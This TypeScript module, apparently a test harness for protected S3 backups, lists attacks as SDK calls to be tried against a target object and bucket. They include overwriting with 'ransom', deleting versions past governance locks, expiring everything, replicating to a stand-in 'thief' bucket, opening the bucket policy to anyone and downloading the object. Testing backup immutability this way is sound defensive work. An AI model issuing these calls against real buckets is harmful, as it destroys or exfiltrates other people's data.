import * as s3 from '@aws-sdk/client-s3';

/** What an attacker aims at: one object of a copy, the bucket it lies in, and an upload to its key that was left open. */
export interface Target {
  readonly bucket: string;
  readonly key: string;
  readonly versionId: string;
  readonly etag: string;
  readonly uploadId: string;
  readonly partEtag: string;
  /** A key beside it that nothing has. */
  readonly free: string;
}

export interface Attack { readonly name: string; run(client: s3.S3Client, target: Target): Promise<unknown> }

const SOON = (): Date => new Date(Date.now() + 60_000);
const RELEASE = [{ Key: 'retire', Value: 'expire' }];
const CUSTOMER_KEY = { SSECustomerAlgorithm: 'AES256', SSECustomerKey: Buffer.alloc(32, 7).toString('base64') };
const EVERYTHING: s3.LifecycleRule = {
  ID: 'everything', Status: 'Enabled', Filter: {}, Expiration: { Days: 1 }, NoncurrentVersionExpiration: { NoncurrentDays: 1 },
};
const AWAY: s3.ReplicationRule = {
  ID: 'away', Status: 'Enabled', Priority: 1, Filter: {}, DeleteMarkerReplication: { Status: 'Disabled' }, Destination: { Bucket: 'arn:aws:s3:::thief' },
};
const ANYBODY = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:*', Resource: '*' }] });

const of = ({ bucket: Bucket, key: Key }: Target): { Bucket: string; Key: string } => ({ Bucket, Key });
const attack = <Input>(name: string, Command: new (input: Input) => object, input: (target: Target) => Input): Attack => ({
  name, run: (client, target) => client.send(new Command(input(target)) as s3.PutObjectCommand),
});
const put = (name: string, more: (target: Target) => Partial<s3.PutObjectCommandInput>): Attack =>
  attack(name, s3.PutObjectCommand, (target) => ({ ...of(target), Body: 'ransom', ...more(target) }));
const complete = (name: string, more: Partial<s3.CompleteMultipartUploadCommandInput> = {}): Attack =>
  attack(name, s3.CompleteMultipartUploadCommand, (target) => ({
    ...of(target), UploadId: target.uploadId, MultipartUpload: { Parts: [{ PartNumber: 1, ETag: target.partEtag }] }, ...more,
  }));

/** Everything that could spoil, hide, remove, unlock or carry off a copy, as far as S3's own calls go. */
export const ATTACKS: readonly Attack[] = [
  put('write over it', () => ({})),
  put('write over it, saying that it is not there', () => ({ IfNoneMatch: '*' })),
  put('write over it, knowing its ETag', ({ etag }) => ({ IfMatch: etag })),
  put('write over it under a key of one\'s own', () => ({ ...CUSTOMER_KEY })),
  put('write beside it under a key of one\'s own', ({ free }) => ({ Key: free, IfNoneMatch: '*', ...CUSTOMER_KEY })),
  put('write what is released at once', ({ free }) => ({ Key: free, IfNoneMatch: '*', Tagging: 'retire=expire' })),
  put('write with a short lock', ({ free }) => ({ Key: free, IfNoneMatch: '*', ObjectLockMode: 'GOVERNANCE', ObjectLockRetainUntilDate: SOON() })),
  put('write under somebody else\'s KMS key', ({ free }) => ({ Key: free, IfNoneMatch: '*', ServerSideEncryption: 'aws:kms', SSEKMSKeyId: 'arn:aws:kms:eu-west-3:111122223333:key/of-the-thief' })),
  attack('copy over it', s3.CopyObjectCommand, (target) => ({
    ...of(target), CopySource: `${target.bucket}/${target.key}`, MetadataDirective: 'REPLACE' as const, Metadata: { ransom: '1' },
  })),
  attack('copy it into a cold class', s3.CopyObjectCommand, (target) => ({
    ...of(target), CopySource: `${target.bucket}/${target.key}`, StorageClass: 'DEEP_ARCHIVE' as const,
  })),
  attack('hide it', s3.DeleteObjectCommand, of),
  attack('delete its version', s3.DeleteObjectCommand, (target) => ({ ...of(target), VersionId: target.versionId })),
  attack('delete its version past the lock', s3.DeleteObjectCommand, (target) => ({
    ...of(target), VersionId: target.versionId, BypassGovernanceRetention: true,
  })),
  {
    name: 'delete many',
    run: async (client, target) => {
      const { Errors = [] } = await client.send(new s3.DeleteObjectsCommand({
        Bucket: target.bucket, BypassGovernanceRetention: true,
        Delete: { Objects: [{ Key: target.key }, { Key: target.key, VersionId: target.versionId }] },
      }));
      if (Errors.length < 2) return;
      throw Object.assign(new Error(Errors[0].Message), { name: Errors[0].Code, $metadata: { httpStatusCode: 403 } });
    },
  },
  complete('complete what was left open, over it'),
  complete('complete what was left open, saying that it is not there', { IfNoneMatch: '*' }),
  {
    name: 'upload in parts, over it',
    run: async (client, target) => {
      const { UploadId } = await client.send(new s3.CreateMultipartUploadCommand(of(target)));
      const { ETag } = await client.send(new s3.UploadPartCommand({ ...of(target), UploadId, PartNumber: 1, Body: 'ransom' }));
      const MultipartUpload = { Parts: [{ PartNumber: 1, ETag }] };
      await client.send(new s3.CompleteMultipartUploadCommand({ ...of(target), UploadId, MultipartUpload }));
    },
  },
  attack('release it by its tag', s3.PutObjectTaggingCommand, (target) => ({ ...of(target), Tagging: { TagSet: RELEASE } })),
  attack('release its version by its tag', s3.PutObjectTaggingCommand, (target) => ({
    ...of(target), VersionId: target.versionId, Tagging: { TagSet: RELEASE },
  })),
  attack('tag it otherwise', s3.PutObjectTaggingCommand, (target) => ({
    ...of(target), VersionId: target.versionId, Tagging: { TagSet: [{ Key: 'owner', Value: 'thief' }] },
  })),
  attack('take its tags', s3.DeleteObjectTaggingCommand, of),
  attack('shorten its lock', s3.PutObjectRetentionCommand, (target) => ({
    ...of(target), VersionId: target.versionId, Retention: { Mode: 'GOVERNANCE' as const, RetainUntilDate: SOON() },
  })),
  attack('shorten its lock past the lock', s3.PutObjectRetentionCommand, (target) => ({
    ...of(target), VersionId: target.versionId, Retention: { Mode: 'GOVERNANCE' as const, RetainUntilDate: SOON() }, BypassGovernanceRetention: true,
  })),
  attack('lift a hold', s3.PutObjectLegalHoldCommand, (target) => ({ ...of(target), LegalHold: { Status: 'OFF' as const } })),
  attack('take the default lock', s3.PutObjectLockConfigurationCommand, ({ bucket: Bucket }) => ({
    Bucket, ObjectLockConfiguration: { ObjectLockEnabled: 'Enabled' as const },
  })),
  attack('stop keeping versions', s3.PutBucketVersioningCommand, ({ bucket: Bucket }) => ({
    Bucket, VersioningConfiguration: { Status: 'Suspended' as const },
  })),
  attack('expire everything', s3.PutBucketLifecycleConfigurationCommand, ({ bucket: Bucket }) => ({
    Bucket, LifecycleConfiguration: { Rules: [EVERYTHING] },
  })),
  attack('replicate it elsewhere', s3.PutBucketReplicationCommand, ({ bucket: Bucket }) => ({
    Bucket, ReplicationConfiguration: { Role: 'arn:aws:iam::111122223333:role/thief', Rules: [AWAY] },
  })),
  attack('stop replicating', s3.DeleteBucketReplicationCommand, ({ bucket: Bucket }) => ({ Bucket })),
  attack('open the bucket', s3.PutBucketPolicyCommand, ({ bucket: Bucket }) => ({ Bucket, Policy: ANYBODY })),
  attack('take the bucket\'s policy', s3.DeleteBucketPolicyCommand, ({ bucket: Bucket }) => ({ Bucket })),
  attack('let the public in', s3.DeletePublicAccessBlockCommand, ({ bucket: Bucket }) => ({ Bucket })),
  attack('change the encryption', s3.PutBucketEncryptionCommand, ({ bucket: Bucket }) => ({
    Bucket, ServerSideEncryptionConfiguration: { Rules: [{ ApplyServerSideEncryptionByDefault: { SSEAlgorithm: 'AES256' as const } }] },
  })),
  attack('delete the bucket', s3.DeleteBucketCommand, ({ bucket: Bucket }) => ({ Bucket })),
  attack('carry its bytes off', s3.GetObjectCommand, of),
];
